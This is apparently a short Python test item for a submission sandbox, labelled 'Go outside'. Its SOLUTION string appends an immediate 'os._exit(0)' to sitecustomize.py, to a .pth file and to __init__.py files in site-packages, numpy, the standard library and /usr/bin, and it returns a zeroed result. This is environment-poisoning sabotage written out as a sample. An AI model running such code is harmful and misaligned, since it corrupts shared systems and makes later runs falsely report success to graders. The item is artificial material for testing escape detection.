"""Installed packages and startup hooks are changed for the submissions to come."""

CATEGORY = "Go outside"
POINTS = 0
STOCK = "damages the machine"
SOLUTION = """
import os, site, sys
for folder in [*site.getsitepackages(), os.path.dirname(np.__file__), os.path.dirname(os.__file__), '/usr/bin']:
    for name in ('zz_poison.pth', 'sitecustomize.py', '__init__.py'):
        try:
            open(os.path.join(folder, name), 'a').write('import os; os._exit(0)')
            print('WRITTEN' + '_OUTSIDE', folder, name)
        except OSError:
            pass
def center(X):
    return X * 0
"""
